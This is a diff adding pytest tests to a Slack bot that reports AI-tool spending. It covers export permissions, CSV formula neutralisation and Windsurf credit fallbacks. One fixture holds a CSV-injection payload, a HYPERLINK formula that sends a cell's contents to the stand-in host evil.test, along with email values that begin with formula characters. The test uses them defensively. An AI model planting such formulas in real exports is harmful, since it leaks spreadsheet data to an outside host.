@@ -10,6 +10,7 @@ from datetime import date, timedelta
 from decimal import Decimal
 
 import httpx
+import pytest
 
 from bot.domain.money import format_change, format_credits, format_usd
 from bot.simulators.slack import FakeSlack, SignedRequests
@@ -161,6 +162,140 @@ def test_export_sends_a_csv_by_direct_message(synced: World) -> None:
     assert total == synced.cursor.dataset.total_cost(days_start, days_end) / 100
     assert {row["unit"] for row in rows} == {"USD"}
     assert "admins" in text_of(synced.ask("export 7d", user=MEMBER))
+
+
+@pytest.mark.parametrize(
+    "settings_overrides",
+    [{"people_visible_to": "admins"}, {"people_visible_to": "everyone"}],
+    ids=["admins", "everyone"],
+)
+def test_export_is_for_admins_and_for_everyone_when_people_are_visible_to_everyone(
+    synced: World, settings_overrides: dict[str, str]
+) -> None:
+    opened = settings_overrides["people_visible_to"] == "everyone"
+    help_line = next(
+        line for line in text_of(synced.ask("help", user=MEMBER)).splitlines() if "/spend export " in line
+    )
+    assert ("_(everyone" in help_line) is opened
+    assert ("_(admins)_" in help_line) is not opened
+    answer = text_of(synced.ask("export 7d cursor", user=MEMBER))
+    uploads = [value for value in synced.fake.uploads.values() if value.get("completed")]
+    if opened:
+        assert "Sent you `spend-" in answer
+        assert [upload["channel"] for upload in uploads] == ["D" + MEMBER.lstrip("U")]
+    else:
+        assert "admins" in answer and "Sent you" not in answer
+        assert uploads == []
+
+
+HOSTILE_PEOPLE = (
+    ("Eve Formula", "=1+1@acme.test"),
+    ("Pat Plus", "+cmd@acme.test"),
+    ("Mia Minus", "-2+3@acme.test"),
+    ("Ali At", "@sum@acme.test"),
+    ("Tab Tab", "\tx@acme.test"),
+    ("Cara Return", "\ry@acme.test"),
+)
+HOSTILE_MODEL = '=HYPERLINK("http://evil.test/?d="&A1,"Click me")'
+
+
+@pytest.mark.parametrize(
+    ("windsurf_options", "settings_overrides"),
+    [
+        (
+            {"people": HOSTILE_PEOPLE, "model_names": {"Claude Sonnet 4.5": HOSTILE_MODEL}},
+            {"windsurf_credit_price": Decimal("0.04")},
+        )
+    ],
+    ids=["formula-text"],
+)
+def test_export_neutralises_formula_cells_and_keeps_numbers(synced: World) -> None:
+    synced.ask("export 30d windsurf")
+    upload = next(value for value in synced.fake.uploads.values() if value.get("completed"))
+    content = upload["content"].decode()
+    rows = list(csv.DictReader(io.StringIO(content, newline="")))
+    assert rows
+    emails = {row["user_email"] for row in rows}
+    hostile = {email for _, email in HOSTILE_PEOPLE}
+    assert {"'" + email for email in hostile} <= emails  # every one of them spent, and was neutralised
+    assert "'" + HOSTILE_MODEL in {row["model"] for row in rows}
+    for row in rows:
+        for name in ("connection", "vendor", "user_email", "model", "unit"):
+            assert not row[name].startswith(("=", "+", "-", "@", "\t", "\r")), (name, row[name])
+    # Numbers stay numbers: bare (unquoted) cells, exactly the vendor's credits per person.
+    first, last = min(row["utc_day"] for row in rows), max(row["utc_day"] for row in rows)
+    expected = synced.windsurf.dataset.credits_by_user(date.fromisoformat(first), date.fromisoformat(last))
+    got: dict[str, Decimal] = {}
+    for row in rows:
+        got[row["user_email"].removeprefix("'")] = got.get(
+            row["user_email"].removeprefix("'"), Decimal(0)
+        ) + (Decimal(row["amount"]))
+    assert got == expected
+    # Read as a spreadsheet would: a bare cell is a number (the reader makes it a float), a quoted one text.
+    records = list(csv.reader(io.StringIO(content, newline=""), quoting=csv.QUOTE_NONNUMERIC))[1:]
+    for record, row in zip(records, rows, strict=True):
+        utc_day, connection, vendor, email, model, amount, unit, usd, requests = record
+        assert all(isinstance(cell, str) for cell in (utc_day, connection, vendor, email, model, unit))
+        assert all(isinstance(cell, float) for cell in (amount, usd, requests))
+        assert Decimal(row["amount_usd"]) == Decimal(row["amount"]) * Decimal("0.04")
+
+
+UNAVAILABLE = "per-person figures are unavailable"
+
+
+def _windsurf_card(text: str) -> str:
+    return text[text.index("*Windsurf*") :].split("_Data as of")[0]
+
+
+@pytest.mark.parametrize("windsurf_options", [{"cascade_data": "none"}], ids=["no-per-person-rows"])
+def test_windsurf_without_per_person_rows_shows_team_totals_that_agree_with_the_balance(
+    synced: World,
+) -> None:
+    data = synced.windsurf.dataset
+    card = _windsurf_card(text_of(synced.ask("status")))
+    balance = data.balance()
+    size = Decimal(data.prompt_credit_pool + balance["addOnCreditsAvailable"])
+    prompt_left = max(Decimal(data.prompt_credit_pool) - data.credits_used_in_cycle(), Decimal(0))
+    remaining = prompt_left + balance["addOnCreditsAvailable"] - balance["addOnCreditsUsed"]
+    used = size - remaining
+    assert used > 0 and balance["addOnCreditsUsed"] == 0  # the world's cycle is within its prompt pool
+    assert f"This cycle: *{format_credits(used)}*" in card
+    assert f"*{format_credits(remaining)}* left of {format_credits(size)}" in card
+    burn = _windsurf_total(synced, TODAY - timedelta(days=7), TODAY - timedelta(days=1)) / 7
+    assert burn > 0 and f"({format_credits(burn)}/day)" in card
+    assert "Nothing spent" not in card
+    assert UNAVAILABLE in card.lower()
+    by_user = text_of(synced.ask("spend 7d windsurf by user"))
+    assert format_credits(_windsurf_total(synced, TODAY - timedelta(days=6), TODAY)) in by_user
+    assert UNAVAILABLE in by_user.lower()
+    assert UNAVAILABLE in text_of(synced.ask("top 30d windsurf")).lower()
+    assert UNAVAILABLE in text_of(synced.ask("export 7d windsurf")).lower()
+    assert synced.bot.services is not None
+    digests = synced.bot.services.digests
+    message, _ = synced.bot.call(digests.preview("T0001"), timeout=60)
+    assert UNAVAILABLE in text_of(message.payload()).lower()
+
+
+@pytest.mark.parametrize("windsurf_options", [{"cascade_data": "partial"}], ids=["partial-per-person-rows"])
+def test_windsurf_per_person_rows_that_disagree_lose_to_team_totals(synced: World) -> None:
+    first = TODAY - timedelta(days=6)
+    team = _windsurf_total(synced, first, TODAY)
+    spend = text_of(synced.ask("spend 7d windsurf by user"))
+    assert format_credits(team) in spend
+    assert UNAVAILABLE in spend.lower()
+    email = synced.windsurf.dataset.members[1].email  # one of the people the partial source leaves out
+    assert UNAVAILABLE in text_of(synced.ask(f"user {email} 7d")).lower()
+    card = _windsurf_card(text_of(synced.ask("status")))
+    assert f"This cycle: *{format_credits(synced.windsurf.dataset.credits_used_in_cycle())}*" in card
+    assert UNAVAILABLE in card.lower()
+
+
+def test_windsurf_per_person_rows_that_add_up_are_used_without_a_warning(synced: World) -> None:
+    text = text_of(synced.ask("spend 7d windsurf by user")) + text_of(synced.ask("status"))
+    assert UNAVAILABLE not in text.lower()
+    credits = synced.windsurf.dataset.credits_by_user(TODAY - timedelta(days=6), TODAY)
+    best = max(credits.items(), key=lambda item: item[1])
+    assert f"{best[0]} — *{format_credits(best[1])}*" in text
 
 
 def test_share_in_channel_reposts_the_answer_publicly(synced: World) -> None:
